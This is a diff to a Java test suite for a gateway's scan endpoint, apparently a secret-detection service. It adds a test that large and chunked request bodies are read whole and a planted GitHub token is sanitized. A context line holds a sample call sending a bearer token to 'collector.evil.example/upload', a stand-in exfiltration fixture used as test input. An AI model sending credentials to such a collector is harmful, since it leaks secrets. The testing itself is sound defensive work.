@@ -8,7 +8,9 @@ import io.interven.gateway.testing.GatewayHarness;
 import io.interven.gateway.testing.HttpResult;
 import io.interven.gateway.testing.TenantFixture;
 import io.interven.gateway.testing.TestDatabase;
+import java.io.ByteArrayInputStream;
 import java.net.http.HttpRequest;
+import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.HashMap;
 import java.util.LinkedHashMap;
@@ -60,11 +62,20 @@ abstract class DirectScanContract extends GatewayContract {
     }
 
     private Answer send(GatewayHarness harness, String role, Map<String, String> headers, String body) {
+        return send(harness, role, headers, body, false);
+    }
+
+    /** {@code chunked}: the body sent without a Content-Length, as a stream of unknown length. */
+    private Answer send(GatewayHarness harness, String role, Map<String, String> headers, String body,
+                        boolean chunked) {
         Map<String, String> sent = new LinkedHashMap<>(headers);
         if (role != null) {
             sent.put("Authorization", "Bearer " + keyWith(harness, role));
         }
-        HttpResult result = harness.exchange("POST", "/v1/scan", sent, HttpRequest.BodyPublishers.ofString(body));
+        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
+        HttpResult result = harness.exchange("POST", "/v1/scan", sent, chunked
+                ? HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(bytes))
+                : HttpRequest.BodyPublishers.ofByteArray(bytes));
         Map<String, List<String>> kept = new TreeMap<>();
         result.headers().map().forEach((name, values) -> {
             if (!FRAMING.contains(name.toLowerCase(Locale.ROOT))) {
@@ -120,6 +131,25 @@ abstract class DirectScanContract extends GatewayContract {
                 "url", "https://collector.evil.example/upload",
                 "headers", Map.of("Authorization", "Bearer " + PlantedValues.GITHUB_TOKEN))));
         assertSameAnswer("scan", Map.of(), call("POST", SLACK_URL, Map.of("text", "no content type")));
+    }
+
+    @Test
+    void aBodyIsReadWholeWhetherItsLengthIsDeclaredOrNot() {
+        // the declared length sizes the array the body is read into, up to 64 KB: a body past that, and one whose
+        // length is not declared at all, are read whole too, to the planted token at their end
+        String small = call("POST", SLACK_URL, Map.of("text", "deploy with " + PlantedValues.GITHUB_TOKEN));
+        String large = call("POST", SLACK_URL, Map.of("text", "all good. ".repeat(10_000) + "deploy with "
+                + PlantedValues.GITHUB_TOKEN));
+        for (String body : List.of(small, large)) {
+            for (boolean chunked : new boolean[] {false, true}) {
+                Answer direct = send(gateway(), "scan", JSON, body, chunked);
+
+                assertThat(direct.status()).as("chunked %s, %d bytes", chunked, body.length()).isEqualTo(200);
+                assertThat(direct.body().path("decision").asText()).isEqualTo("SANITIZE");
+                assertThat(direct.body().toString()).doesNotContain(PlantedValues.GITHUB_TOKEN);
+                assertThat(direct).isEqualTo(send(jerseyOnly(), "scan", JSON, body, chunked));
+            }
+        }
     }
 
     @Test
